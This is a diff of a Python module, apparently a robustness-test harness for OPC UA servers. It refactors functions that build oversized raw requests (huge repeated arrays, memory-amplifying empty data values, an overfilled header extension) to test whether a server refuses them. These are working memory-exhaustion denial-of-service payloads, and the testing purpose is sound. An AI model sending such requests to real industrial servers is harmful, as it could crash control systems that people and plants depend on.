@@ -5,7 +5,7 @@ import time
 from collections.abc import Callable
 
 from asyncua import ua
-from raw_client import CHUNK, Refused
+from raw_client import CHUNK, RawClient, Refused
 from target import LEVEL, Target, refused_with
 
 OBJECTS = ua.NodeId(85, 0)
@@ -38,51 +38,50 @@ def unfinished_messages(connections: int, size: int) -> Callable[[Target], str]:
     return attack
 
 
-def large_request(type_id: int, element: bytes, size: int = 16 << 20) -> Callable[[Target], str]:
-    """One request whose array contains the element over and over."""
+def one_body(body_for: Callable[[RawClient], bytes]) -> Callable[[Target], str]:
+    """One request of a new client, with this body."""
 
     def attack(target: Target) -> str:
         client = target.client()
-        header = client.header()
-        count = size // len(element)
-        body = struct.pack("<BBH", 1, 0, type_id) + header + struct.pack("<i", count)
-        result = refused_with(lambda: (client.send_body(body + element * count), client.answer()))
+        body = body_for(client)
+        result = refused_with(lambda: (client.send_body(body), client.answer()))
         client.close()
         return result
 
     return attack
+
+
+def large_request(type_id: int, element: bytes, size: int = 16 << 20) -> Callable[[Target], str]:
+    """One request whose array contains the element over and over."""
+    count = size // len(element)
+    return one_body(
+        lambda client: struct.pack("<BBH", 1, 0, type_id)
+        + client.header()
+        + struct.pack("<i", count)
+        + element * count
+    )
 
 
 def values_in_values(size: int) -> Callable[[Target], str]:
     """A write of one array of empty data values, which take 80 times as much memory as bytes."""
-
-    def attack(target: Target) -> str:
-        client = target.client()
-        body = struct.pack("<BBH", 1, 0, 673) + client.header()
-        body += struct.pack("<i", 1) + struct.pack("<BBHIi", 1, 0, 2267, 13, -1)
-        body += struct.pack("<BBi", 1, 0x80 | 23, size) + b"\0" * size
-        result = refused_with(lambda: (client.send_body(body), client.answer()))
-        client.close()
-        return result
-
-    return attack
+    variable = struct.pack("<i", 1) + struct.pack("<BBHIi", 1, 0, 2267, 13, -1)
+    values = struct.pack("<BBi", 1, 0x80 | 23, size) + b"\0" * size
+    return one_body(
+        lambda client: struct.pack("<BBH", 1, 0, 673) + client.header() + variable + values
+    )
 
 
 def values_in_header(size: int) -> Callable[[Target], str]:
     """The same in a part of the request's header that the standard leaves to extensions."""
-
-    def attack(target: Target) -> str:
-        client = target.client()
-        values = struct.pack("<i", size) + b"\0" * size
-        extension = struct.pack("<BBHBi", 1, 0, 658, 1, len(values)) + values  # HistoryData
-        no_extension = b"\0\0\0"
-        body = struct.pack("<BBH", 1, 0, 631) + client.header().removesuffix(no_extension)
-        body += extension + struct.pack("<dii", 0, 0, 0)
-        result = refused_with(lambda: (client.send_body(body), client.answer()))
-        client.close()
-        return result
-
-    return attack
+    values = struct.pack("<i", size) + b"\0" * size
+    extension = struct.pack("<BBHBi", 1, 0, 658, 1, len(values)) + values  # HistoryData
+    no_extension = b"\0\0\0"
+    return one_body(
+        lambda client: struct.pack("<BBH", 1, 0, 631)
+        + client.header().removesuffix(no_extension)
+        + extension
+        + struct.pack("<dii", 0, 0, 0)
+    )
 
 
 def browse_often(target: Target) -> str:
